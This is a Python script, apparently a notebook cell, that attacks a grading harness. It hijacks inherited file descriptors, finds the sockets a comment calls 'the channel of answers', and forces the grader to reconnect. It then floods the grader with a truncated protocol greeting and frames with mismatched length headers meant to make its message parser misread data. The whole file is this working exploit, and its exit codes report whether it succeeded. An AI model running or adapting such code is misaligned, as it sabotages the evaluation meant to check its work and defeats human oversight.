"""Greets the grader in an old protocol with a shorter greeting, so that what counts the parts of messages reads others than are meant."""

# %% [extra before:expose]
import os
import socket
import struct
import threading
import time

SIZE = 900_000
greeting = b"\xff" + bytes(7) + b"\x01\x7f" + b"\x01\x06" + b"\x00\x00"  # version 2.0, a router, without a name: 14 bytes, not 64
header = b"\x03" + struct.pack(">Q", SIZE)  # a part, and more is to come: what the grader's library reads
decoy = b"\x02" + struct.pack(">Q", SIZE)  # a whole message: what is read where the first 64 bytes are passed over
block = header + bytes(41) + decoy + bytes(SIZE - 50)
blocks = iter(range(150))  # for all of them together: the kernel has a connection to itself, and would drown in more
told = False


def flood(listener):
    global told
    while True:
        its, _ = listener.accept()
        told = True
        try:
            its.sendall(greeting)
            for _ in blocks:
                its.sendall(block)
        except OSError:
            its.close()


sockets = []
for name in os.listdir("/proc/self/fd"):
    try:
        its = socket.socket(fileno=os.dup(int(name)))
    except OSError:
        continue
    sockets.append(its)
ours = [its for its in sockets if str(its.getsockname()).startswith("/tmp/k/s-1")]  # the channel of answers
for listener in [its for its in ours if its.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)]:
    listener.setblocking(True)
    for _ in range(8):
        threading.Thread(target=flood, args=(listener,), daemon=True).start()
for its in ours:
    if not its.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        its.shutdown(socket.SHUT_RDWR)  # the grader connects again, and one of eight is quicker than the kernel
time.sleep(4)
os._exit(43 if told else 44)
